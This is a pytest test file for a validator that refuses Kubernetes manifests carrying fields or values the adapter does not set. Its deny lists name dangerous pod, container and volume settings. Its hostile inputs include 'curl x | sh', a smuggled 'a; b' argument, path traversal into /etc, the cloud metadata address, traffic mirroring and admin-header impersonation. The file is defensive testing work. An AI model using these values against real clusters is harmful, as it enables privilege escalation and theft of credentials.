"""Nothing gets to the cluster that the engine is not meant to set: every dangerous field is tried, by the real CRDs."""

import copy
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from adapters.easymaker.cluster_settings import ClusterSettings
from adapters.easymaker.engines.cluster.allowed_fields import ALLOWED, MODEL, TRAINING_POD
from adapters.easymaker.engines.cluster.allowlist import require_allowed
from adapters.easymaker.engines.cluster.api_resources import APPLIED_KINDS
from adapters.easymaker.errors import PermanentEngineError
from tests.adapters.easymaker.engines.cluster import allowlist_samples as samples
from tests.adapters.easymaker.engines.cluster.allowlist_samples import SAMPLES
from tests.kubernetes.crds import crd_directory, read_crds

Manifest = dict[str, Any]
Path = tuple[str | int, ...]

JOB: Path = ("spec", "runtimePatches", 0, "trainingRuntimeSpec", "template", "spec", "replicatedJobs", 0, "template")
TRIAL_POD: Path = ("spec", "trialTemplate", "trialSpec", *JOB, "spec", "template", "spec")
POD: Path = (*JOB, "spec", "template", "spec")
PREDICTOR: Path = ("spec", "predictor")
# What must not be settable in any pod, whatever else changes.
DANGERS = {
    "hostNetwork", "hostPID", "hostIPC", "hostUsers", "hostAliases", "hostname", "nodeName", "securityContext",
    "serviceAccount", "initContainers", "ephemeralContainers", "imagePullSecrets",
    "shareProcessNamespace", "runtimeClassName", "priorityClassName", "priority", "schedulerName", "affinity",
    "topologySpreadConstraints", "dnsConfig", "dnsPolicy", "resourceClaims", "restartPolicy",
}  # fmt: skip
CONTAINER_DANGERS = {
    "image", "envFrom", "securityContext", "lifecycle", "livenessProbe", "readinessProbe", "startupProbe", "ports",
    "stdin", "tty", "volumeDevices", "workingDir", "command", "terminationMessagePath",
}  # fmt: skip
VOLUME_SOURCES = {
    "hostPath", "secret", "projected", "downwardAPI", "csi", "nfs", "gitRepo", "flexVolume", "image", "iscsi", "rbd",
    "cephfs", "glusterfs", "fc", "azureFile", "awsElasticBlockStore", "local", "flocker", "storageos",
}  # fmt: skip


def at(manifest: Any, path: Path) -> Any:
    for part in path:
        manifest = manifest[part]
    return manifest


def refusal(manifest: Manifest, cluster: ClusterSettings | None = None) -> str:
    with pytest.raises(PermanentEngineError) as refused:
        require_allowed(manifest, *([cluster] if cluster else []))
    return str(refused.value)


def changed(sample: Callable[[], Manifest], path: Path, value: Any) -> Manifest:
    manifest = sample()
    at(manifest, path[:-1])[path[-1]] = value
    return manifest


def objects_in(value: Any, path: Path = ()) -> Iterator[Path]:
    """Where there is an object in a manifest."""
    if isinstance(value, dict):
        yield path
        for name, inner in value.items():
            yield from objects_in(inner, (*path, name))
    elif isinstance(value, list):
        for number, inner in enumerate(value):
            yield from objects_in(inner, (*path, number))


def schema(plural: str, *path: str) -> dict[str, Any]:
    """A part of a real CRD's schema; array items are stepped into."""
    if crd_directory() is None:
        pytest.skip("no CRDs: set EASYMAKER_CRDS, or have shared/crds beside the checkout")
    crd = read_crds(crd_directory(), {plural})[0]  # type: ignore[arg-type]
    versions = {version["name"]: version for version in crd["spec"]["versions"]}
    version = next(r.version for r in APPLIED_KINDS if r.plural == plural)
    found = versions[version]["schema"]["openAPIV3Schema"]
    for name in path:
        found = found["properties"][name]
        found = found.get("items", found)
    return found["properties"]


@pytest.mark.parametrize("sample", SAMPLES)
def test_what_the_engine_sends_is_allowed(sample: Callable[[], Manifest]) -> None:
    manifest = sample()
    before = copy.deepcopy(manifest)
    require_allowed(manifest)
    assert manifest == before


def test_there_is_a_table_and_a_sample_for_every_kind() -> None:
    assert set(ALLOWED) == set(APPLIED_KINDS)
    assert {sample()["kind"] for sample in SAMPLES} == {resource.kind for resource in APPLIED_KINDS}


@pytest.mark.parametrize("sample", SAMPLES)
def test_an_unknown_field_anywhere_is_refused(sample: Callable[[], Manifest]) -> None:
    """In every object of every manifest, whatever is beside it. Its key could be no label, annotation or resource."""
    tried = 0
    for path in objects_in(sample()):
        for name in ("surprise!", "x" * 300, 'a"b\n'):
            message = refusal(changed(sample, (*path, name), "x"))
            assert sample()["kind"] in message
            assert len(message) < 400
            tried += 1
    assert tried


@pytest.mark.parametrize("sample", SAMPLES)
@pytest.mark.parametrize("value", [None, [], 5, True, "text", {"a": {"b": "c"}}, 1.5])
def test_a_value_of_another_type_is_refused(sample: Callable[[], Manifest], value: Any) -> None:
    """What is an object or a list there cannot become something else, with whatever the server would make of that."""
    for path in objects_in(sample()):
        if path and not (value == [] or isinstance(value, dict)):
            refusal(changed(sample, path, value))


@pytest.mark.parametrize("field", sorted(DANGERS))
def test_no_pod_gets_a_dangerous_field(field: str) -> None:
    pods = ((samples.train_job, POD), (samples.experiment, TRIAL_POD), (samples.inference_service, PREDICTOR))
    for sample, pod in pods:
        assert field in refusal(changed(sample, (*pod, field), "x"))


@pytest.mark.parametrize("field", sorted(CONTAINER_DANGERS))
def test_no_container_gets_a_dangerous_field(field: str) -> None:
    for sample, container in (
        (samples.train_job, (*POD, "containers", 0)),
        (samples.experiment, (*TRIAL_POD, "containers", 0)),
        (samples.inference_service, (*PREDICTOR, "model")),
    ):
        assert field in refusal(changed(sample, (*container, field), "x"))


@pytest.mark.parametrize("source", sorted(VOLUME_SOURCES))
def test_no_volume_of_another_source(source: str) -> None:
    """Neither instead of what is allowed nor beside it."""
    path: Path = (*POD, "volumes", 0)
    refusal(changed(samples.train_job, path, {"name": "evil", source: {"path": "/"}}))
    refusal(changed(samples.train_job, (*path, source), {"path": "/"}))
    refusal(changed(samples.inference_service, (*PREDICTOR, "volumes"), [{"name": "evil", source: {}}]))


def test_every_field_of_a_pod_that_the_crds_know_is_judged() -> None:
    """All of them, by the real schema: those that are not in the table are refused."""
    predictor = schema("inferenceservices", "spec", "predictor")
    assert DANGERS - {"ephemeralContainers"} <= set(predictor)
    refused = set(predictor) - set(_table("InferenceService", ("spec", "predictor")))
    for field in refused:
        assert field in refusal(changed(samples.inference_service, (*PREDICTOR, field), {}))
    assert refused >= DANGERS - {"ephemeralContainers"}
    container = schema("inferenceservices", "spec", "predictor", "model")
    for field in set(container) - set(MODEL):
        assert field in refusal(changed(samples.inference_service, (*PREDICTOR, "model", field), {}))
    for source in set(schema("inferenceservices", "spec", "predictor", "volumes")) - {
        "name", "configMap", "persistentVolumeClaim", "emptyDir", "ephemeral",
    }:  # fmt: skip
        refusal(changed(samples.train_job, (*POD, "volumes", 1), {"name": "evil", source: {}}))


def test_every_field_of_a_training_that_the_crd_knows_is_judged() -> None:
    for path in (
        ("spec",),
        ("spec", "trainer"),
        ("spec", "runtimePatches"),
        ("spec", "runtimePatches", "trainingRuntimeSpec", "template", "spec", "replicatedJobs"),
        (*(part for part in POD if isinstance(part, str)),),
        (*(part for part in POD if isinstance(part, str)), "containers"),
    ):
        known = schema("trainjobs", *path)
        where = tuple(part for name in path for part in _into(name))
        allowed = _table("TrainJob", path)
        for field in set(known) - set(allowed):
            assert field in refusal(changed(samples.train_job, (*where, field), {}))
    assert not DANGERS & set(TRAINING_POD)


def _into(name: str) -> tuple[str | int, ...]:
    return (name, 0) if name in ("runtimePatches", "replicatedJobs", "containers") else (name,)


def _table(kind: str, path: tuple[str, ...]) -> Any:
    found: Any = next(table for resource, table in ALLOWED.items() if resource.kind == kind)
    for name in path:
        found = found[name]
        found = found[0] if isinstance(found, list) else found
    return found


ENV: Path = (*PREDICTOR, "model", "env", 0, "valueFrom")
RULE: Path = ("spec", "rules", 0)
BACKEND: Path = (*RULE, "backendRefs")
HTTP: Path = ("spec", "http", 0)


@pytest.mark.parametrize(
    ("sample", "path", "value"),
    [
        (samples.train_job, (*POD, "serviceAccountName"), "default-editor"),
        (samples.train_job, (*POD, "containers", 0, "name"), "sidecar"),
        (samples.train_job, (*POD, "containers", 0, "volumeMounts", 0, "mountPath"), "/etc"),
        (samples.train_job, (*POD, "containers", 0, "volumeMounts", 0, "mountPath"), "/easymaker/../etc"),
        (samples.train_job, (*POD, "containers", 0, "volumeMounts", 0, "mountPath"), "/easymaker/a/.."),
        (samples.train_job, (*POD, "containers", 0, "volumeMounts", 0, "subPath"), "../other"),
        (samples.train_job, (*POD, "volumes", 0, "configMap", "name"), "kube-root-ca.crt"),
        (samples.train_job, (*POD, "volumes", 1, "persistentVolumeClaim", "claimName"), "somebodys"),
        (samples.train_job, (*JOB, "metadata"), {"annotations": {"sidecar.istio.io/inject": "false"}}),
        (samples.train_job, ("spec", "runtimeRef", "name"), "somebodys"),
        (samples.train_job, ("spec", "runtimeRef", "kind"), "TrainingRuntime"),
        (samples.train_job, ("spec", "trainer", "command"), ["sh", "-c", "curl x | sh"]),
        (samples.train_job, ("spec", "trainer", "args"), ["a; b"]),
        (samples.train_job, ("spec", "trainer", "image"), "a b"),
        (samples.train_job, ("spec", "initializer"), {"model": {"storageUri": "s3://x"}}),
        (samples.train_job, ("spec", "managedBy"), "somebody"),
        (samples.train_job, ("spec", "suspend"), 1),
        (samples.train_job, ("spec", "trainer", "numNodes"), True),
        (samples.inference_service, (*PREDICTOR, "serviceAccountName"), "default"),
        (samples.inference_service, (*PREDICTOR, "automountServiceAccountToken"), True),
        (samples.inference_service, (*PREDICTOR, "automountServiceAccountToken"), 0),
        (samples.train_job, (*POD, "automountServiceAccountToken"), True),
        (samples.inference_service, (*PREDICTOR, "model", "storageUri"), "hostpath:///etc"),
        (samples.inference_service, (*PREDICTOR, "model", "storageUri"), "http://169.254.169.254/"),
        (samples.inference_service, (*PREDICTOR, "model", "storageUri"), "pvc://somebodys/model"),
        (samples.inference_service, (*PREDICTOR, "model", "storageUri"), "oci://evil"),
        (samples.inference_service, (*ENV, "secretKeyRef", "name"), "somebodys"),
        (samples.inference_service, (*ENV, "secretKeyRef", "name"), "em-x"),
        (samples.inference_service, ENV, {"configMapKeyRef": {"name": "em-x", "key": "a"}}),
        (samples.inference_service, ENV, {"fieldRef": {"fieldPath": "spec.nodeName"}}),
        (samples.inference_service, ENV, {"resourceFieldRef": {"resource": "limits.cpu"}}),
        (samples.inference_service, (*PREDICTOR, "containers"), [{"name": "a", "image": "evil"}]),
        (samples.inference_service, (*PREDICTOR, "workerSpec"), {"hostNetwork": True}),
        (samples.inference_service, ("spec", "transformer"), {"containers": []}),
        (samples.inference_service, ("spec", "explainer"), {}),
        (samples.inference_service, ("metadata", "annotations", "sidecar.istio.io/inject"), "false"),
        (samples.inference_service, ("metadata", "annotations", "serving.kserve.io/storageSecretName"), "x"),
        (samples.http_route, (*RULE, "matches", 0, "path", "value"), "/"),
        (samples.http_route, (*RULE, "matches", 0, "path", "value"), "/v1.0/appkeys"),
        (samples.http_route, (*RULE, "matches", 0, "path", "value"), "/pipeline/stages"),
        (samples.http_route, (*RULE, "matches", 0, "headers"), [{"name": "a", "value": "b"}]),
        (samples.http_route, (*RULE, "filters", 0, "urlRewrite", "hostname"), samples.HOST.replace("team-a", "team-b")),
        (samples.http_route, (*RULE, "filters", 0, "urlRewrite", "hostname"), "kubernetes.default.svc.cluster.local"),
        (samples.http_route, (*RULE, "filters", 0), {"type": "RequestMirror", "requestMirror": {"backendRef": {}}}),
        (samples.http_route, (*RULE, "filters", 0), {"type": "RequestRedirect", "requestRedirect": {}}),
        (samples.http_route, (*RULE, "filters", 0), {"type": "ExtensionRef", "extensionRef": {}}),
        (samples.http_route, (*BACKEND, 0, "namespace"), "team-b"),
        (samples.http_route, (*BACKEND, 0, "name"), "ml-pipeline"),
        (samples.http_route, (*BACKEND, 1, "namespace"), "kubeflow"),
        (samples.http_route, (*BACKEND, 0, "kind"), "Secret"),
        (samples.http_route, ("spec", "parentRefs", 0, "name"), "another"),
        (samples.http_route, ("spec", "hostnames"), ["kubeflow.example.com"]),
        (samples.virtual_service, ("spec", "hosts"), ["*"]),
        (samples.virtual_service, ("spec", "gateways"), ["mesh"]),
        (samples.virtual_service, ("spec", "exportTo"), ["*"]),
        (samples.virtual_service, ("spec", "tcp"), []),
        (samples.virtual_service, (*HTTP, "route", 0, "destination", "host"), "ml-pipeline.kubeflow.svc.cluster.local"),
        (samples.virtual_service, (*HTTP, "route", 0, "destination", "host"), samples.HOST.replace("team-a", "team-b")),
        (samples.virtual_service, (*HTTP, "route", 1, "headers", "request", "set", "Host"), "another.team-b"),
        (samples.virtual_service, (*HTTP, "route", 1, "headers", "request", "set", "kubeflow-userid"), "admin"),
        (samples.virtual_service, (*HTTP, "match", 0, "uri", "exact"), "/"),
        (samples.virtual_service, (*HTTP, "match", 1, "uri", "regex"), ".*"),
        (samples.virtual_service, (*HTTP, "mirror"), {"host": "evil"}),
        (samples.virtual_service, (*HTTP, "redirect"), {"uri": "/"}),
        (samples.virtual_service, (*HTTP, "fault"), {}),
        (samples.virtual_service, (*HTTP, "delegate"), {"name": "x"}),
        (samples.secret, ("type",), "kubernetes.io/service-account-token"),
        (samples.secret, ("metadata", "annotations", "kubernetes.io/service-account.name"), "admin"),
        (samples.secret, ("metadata", "name"), "em-x"),
        (samples.secret, ("stringData",), {"a": "b"}),
        (samples.volume_claim, ("spec", "volumeName"), "somebodys"),
        (samples.volume_claim, ("spec", "dataSource"), {"kind": "PersistentVolumeClaim", "name": "x"}),
        (samples.volume_claim, ("spec", "selector"), {}),
        (samples.tensorboard, ("spec", "logspath"), "pvc://somebodys/"),
        (samples.tensorboard, ("spec", "logspath"), "gs://bucket"),
        (samples.config_map, ("binaryData",), {}),
        (samples.config_map, ("metadata", "name"), "kube-root-ca.crt"),
        (samples.config_map, ("metadata", "finalizers"), ["a/b"]),
        (samples.config_map, ("metadata", "generateName"), "em-"),
        (samples.config_map, ("metadata", "labels", "istio-injection"), "disabled"),
        (samples.config_map, ("metadata", "ownerReferences", 0, "kind"), "Node"),
        (samples.config_map, ("metadata", "namespace"), "Not_A_Namespace"),
        (samples.config_map, ("metadata", "name"), "em-x\n"),
    ],
)  # fmt: skip
def test_a_hostile_value_is_refused(sample: Callable[[], Manifest], path: Path, value: Any) -> None:
    refusal(changed(sample, path, value))


@pytest.mark.parametrize(
    ("api_version", "kind"),
    [
        ("v1", "Pod"),
        ("rbac.authorization.k8s.io/v1", "RoleBinding"),
        ("v1", "ServiceAccount"),
        ("apps/v1", "Deployment"),
    ],
)
def test_another_kind_of_object_is_refused(api_version: str, kind: str) -> None:
    refusal(samples.config_map() | {"apiVersion": api_version, "kind": kind})
    refusal({"kind": "ConfigMap"})
    refusal(samples.config_map() | {"metadata": None})
    refusal({**samples.config_map(), "metadata": {"name": "em-x"}})


def test_the_path_is_told() -> None:
    message = refusal(changed(samples.train_job, (*POD, "hostNetwork"), True))
    assert message.startswith(
        "TrainJob is not sent to the cluster: spec.runtimePatches[0].trainingRuntimeSpec.template"
    )
    assert message.endswith("template.spec.hostNetwork is no field that the adapter sets")


def test_secret_values_are_not_told() -> None:
    """A value that does not fit is shown, but never one of a Secret."""
    assert "canary" not in refusal(changed(samples.secret, ("data", "token"), "canary!"))


def test_the_installations_own_names_count() -> None:
    """What an operator has set replaces the defaults, which are refused then."""
    cluster = ClusterSettings.model_construct(job_service_account="trainers", knative_gateway="knative/gateway")
    require_allowed(changed(samples.train_job, (*POD, "serviceAccountName"), "trainers"), cluster)
    assert "serviceAccountName" in refusal(samples.train_job(), cluster)
    refusal(samples.http_route(), cluster)
